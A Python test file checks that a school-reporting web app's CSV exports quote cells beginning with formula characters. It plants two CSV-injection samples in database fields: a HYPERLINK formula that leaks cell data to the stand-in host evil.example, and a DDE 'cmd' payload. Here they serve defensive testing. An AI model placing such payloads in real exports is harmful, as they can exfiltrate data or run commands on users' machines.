"""Spreadsheet exports write user text so that a spreadsheet shows it and never runs it: a cell that
would start a formula carries a leading single quote. Real PostgreSQL, Temporal and the web app."""

from __future__ import annotations

import csv
import io

from sqlalchemy import text

from api.spreadsheet import read_cell, safe_cell
from tests.conftest import Live
from tests.ui.test_dropout_pages import start_by_service, today
from tests.ui.test_pages import browser

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"点我")'


def cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_every_formula_start_is_quoted_and_read_back() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(start + "1+1") == "'" + start + "1+1"
        assert read_cell(str(safe_cell(start + "1+1"))) == start + "1+1"
    assert safe_cell("王小明") == "王小明" and safe_cell(-1) == -1 and read_cell("'abc") == "'abc"


async def test_a_childs_name_in_the_report_export_is_not_a_formula(live: Live) -> None:
    await start_by_service(live, "luzhou-school1", "王小明")
    async with live.db.engine.begin() as conn:
        await conn.execute(text("UPDATE children SET name = :n WHERE name = '王小明'"), {"n": EVIL})
    async with browser(live, "luzhou-edu-sup") as sup:
        export = await sup.get(f"/reports/dropout_return/export?month={today():%Y-%m}&format=csv")
    assert export.status_code == 200
    rows = cells(export.content)
    assert [r[1] for r in rows[1:]] == ["'" + EVIL]
    assert not any(c.startswith(("=", "+", "-", "@")) for r in rows for c in r)


async def test_an_agency_name_in_the_agency_export_is_not_a_formula(live: Live) -> None:
    async with live.db.engine.begin() as conn:
        code = (
            await conn.execute(
                text(
                    "UPDATE agencies SET name = :n WHERE code = (SELECT min(code) FROM agencies "
                    "WHERE region_code = '140403' AND agency_type = 'school') RETURNING code"
                ),
                {"n": "@SUM(1+1)*cmd|' /C calc'!A0"},
            )
        ).scalar_one()
    async with browser(live, "admin") as admin:
        export = await admin.get("/admin/agencies/export.csv", params={"region_code": "140403"})
    assert export.status_code == 200
    row = next(r for r in cells(export.content) if r[0] == code)
    assert row[1] == "'@SUM(1+1)*cmd|' /C calc'!A0"
